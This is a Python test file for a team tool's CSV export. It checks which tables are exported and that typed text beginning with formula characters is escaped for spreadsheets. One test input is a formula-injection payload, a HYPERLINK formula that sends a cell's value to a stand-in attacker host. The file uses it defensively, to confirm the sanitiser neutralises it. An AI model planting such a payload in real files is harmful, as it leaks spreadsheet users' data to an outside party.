"""`baton export`: every table that names a person is in it, a survey's invitations say only
who was asked, and a spreadsheet opening the CSV shows what people typed and runs nothing."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

from storage import (
    blockers,
    checkins,
    claims,
    escalations,
    messages,
    usergroups,
    workspace_settings,
)
from storage.db import Database
from storage.models import MessageGroupMention
from tests.support.surveys import answered_round

NOW = datetime(2026, 11, 23, 14, 0, tzinfo=UTC)


def _escalate(db: Database, title: str) -> None:
    with db.unit_of_work() as session:
        escalations.create_escalation(
            session,
            team_id="T1",
            title=title,
            severity=2,
            reporter_id="UREPORTER",
            owner_id="UOWNER",
            source_channel_id="CGENERAL",
            now=NOW,
        )


def _column(path: Path, name: str) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [row[name] for row in csv.DictReader(handle)]


def _csv(path: Path) -> list[list[str]]:
    """The file's rows, header first."""
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _survey(db: Database, scores: dict[str, int], *, min_responses: int) -> int:
    """A closed round that asked these people, each sent their DM and answering with a score."""
    with db.unit_of_work() as session:
        return answered_round(
            session, team_id="T1", scores=scores, opened=NOW, min_responses=min_responses
        )


def test_every_table_that_names_a_person_is_written_with_its_rows(
    database_url: str, tmp_path: Path
) -> None:
    from storage.export import export_tables

    db = Database(database_url)
    with db.unit_of_work() as session:
        session.add(
            MessageGroupMention(
                team_id="T1",
                channel_id="CTEAM",
                message_ts="1795960800.000100",
                group_id="SPARTNER",
                posted_at=NOW,
                state="expanded",
            )
        )
        usergroups.add_reading(
            session,
            team_id="T1",
            group_id="SPARTNER",
            read_at=NOW,
            readable=True,
            members=["UBRUNO", "UANA"],
        )
        messages.replace_side_members(
            session, team_id="T1", side="partner", user_ids=["UANA"], now=NOW
        )
        checkins.record_prompt(
            session,
            team_id="T1",
            sprint=3,
            lead_id="ULEAD",
            channel_id="DLEAD",
            message_ts="1795960800.000200",
            now=NOW,
        )
        assert claims.claim(
            session, team_id="T1", job="checkin_prompt", subject="ULEAD", period="sprint:3", now=NOW
        )
        workspace_settings.save_changes(
            session,
            team_id="T1",
            changes={"BATON_CHECKIN_LEADS": "delivery:ULEAD"},
            by="UADMIN",
            now=NOW,
        )
    first = _survey(db, {"UZOE": 9, "UANA": 4, "UBRUNO": 10}, min_responses=3)
    second = _survey(db, {"UANA": 7}, min_responses=3)
    out = tmp_path / "out"
    written = export_tables(db, out)
    db.dispose()

    assert {path.name: rows for path, rows in written} == {
        "escalations.csv": 0,
        "blockers.csv": 0,
        "blocker_waits.csv": 0,
        "messages.csv": 0,
        "message_mentions.csv": 0,
        "message_group_mentions.csv": 1,
        "latency_weeks_kept.csv": 0,
        "latency_weeks.csv": 0,
        "usergroup_readings.csv": 1,
        "side_members.csv": 1,
        "nps_rounds.csv": 2,
        "nps_invitations.csv": 4,
        "nps_answers.csv": 3,  # the second round is below its minimum: none of its answers
        "checkins.csv": 0,
        "checkin_prompts.csv": 1,
        "job_claims.csv": 1,
        "workspace_setting_changes.csv": 1,
    }
    assert sorted(path.name for path in out.iterdir()) == sorted(path.name for path, _ in written)
    assert _csv(out / "message_group_mentions.csv") == [
        ["channel_id", "message_ts", "group_id", "posted_at", "state", "team_id"],
        ["CTEAM", "1795960800.000100", "SPARTNER", "2026-11-23T14:00:00+00:00", "expanded", "T1"],
    ]
    assert _csv(out / "usergroup_readings.csv") == [
        ["id", "team_id", "group_id", "read_at", "readable", "members"],
        ["1", "T1", "SPARTNER", "2026-11-23T14:00:00+00:00", "True", "UANA,UBRUNO"],
    ]
    assert _csv(out / "workspace_setting_changes.csv") == [
        ["id", "name", "old_value", "new_value", "changed_by", "changed_at", "team_id"],
        [
            "1",
            "BATON_CHECKIN_LEADS",
            "",
            "delivery:ULEAD",
            "UADMIN",
            "2026-11-23T14:00:00+00:00",
            "T1",
        ],
    ]
    assert _csv(out / "side_members.csv") == [
        ["side", "user_id", "refreshed_at", "team_id"],
        ["partner", "UANA", "2026-11-23T14:00:00+00:00", "T1"],
    ]
    assert _csv(out / "checkin_prompts.csv") == [
        [
            "id",
            "team_id",
            "sprint",
            "lead_id",
            "channel_id",
            "message_ts",
            "sent_at",
            "reminded_at",
            "done_at",
        ],
        [
            "1",
            "T1",
            "3",
            "ULEAD",
            "DLEAD",
            "1795960800.000200",
            "2026-11-23T14:00:00+00:00",
            "",
            "",
        ],
    ]
    assert _csv(out / "job_claims.csv") == [
        ["id", "job", "subject", "period", "claimed_at", "finished_at", "team_id"],
        ["1", "checkin_prompt", "ULEAD", "sprint:3", "2026-11-23T14:00:00+00:00", "", "T1"],
    ]
    # Who was asked in which round, in that order, and nothing that says who answered or when.
    assert _csv(out / "nps_invitations.csv") == [
        ["round_id", "user_id"],
        [str(first), "UANA"],
        [str(first), "UBRUNO"],
        [str(first), "UZOE"],
        [str(second), "UANA"],
    ]
    assert sorted(_column(out / "nps_answers.csv", "score")) == ["10", "4", "9"]
    assert _csv(out / "nps_answers.csv")[0] == [
        "id",
        "round_id",
        "score",
        "comment",
        "answered_on",
        "team_id",
    ]


def test_the_tables_baton_forget_user_changes_are_exported_but_the_outbox() -> None:
    from storage import forget
    from storage.export import EXPORTED

    named = {
        column.class_.__tablename__
        for column in (
            *forget.ID_COLUMNS,
            *forget.TEXT_COLUMNS,
            *forget.INNER_COLUMNS,
            *forget.REMOVED_COLUMNS,
        )
    }
    # The outbox names a person only in work waiting to be done; done, it goes within 7 days.
    assert named - set(EXPORTED) == {"outbox"}


def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(
    database_url: str, tmp_path: Path
) -> None:
    from storage.export import export_tables

    db = Database(database_url)
    titles = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1 555 0100 keeps ringing",
        "-2 nodes left in the pool",
        "@dana the build is red",
        "\tTabbed title",
        "Plain title = fine",
        "",
    ]
    for title in titles:
        _escalate(db, title)
    with db.unit_of_work() as session:
        blockers.create_blocker(
            session,
            team_id="T1",
            text="=1+1 waits on the VPN",
            reporter_id="UREPORTER",
            source_channel_id="CGENERAL",
            now=NOW,
        )
    export_tables(db, tmp_path)
    db.dispose()

    assert _column(tmp_path / "escalations.csv", "title") == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "'+1 555 0100 keeps ringing",
        "'-2 nodes left in the pool",
        "'@dana the build is red",
        "'\tTabbed title",
        "Plain title = fine",
        "",
    ]
    assert _column(tmp_path / "blockers.csv", "text") == ["'=1+1 waits on the VPN"]
    # Numbers and times are not text a person typed: they are written as they are.
    assert _column(tmp_path / "escalations.csv", "severity") == ["sev2"] * len(titles)
    assert _column(tmp_path / "escalations.csv", "created_at") == [
        "2026-11-23T14:00:00+00:00"
    ] * len(titles)
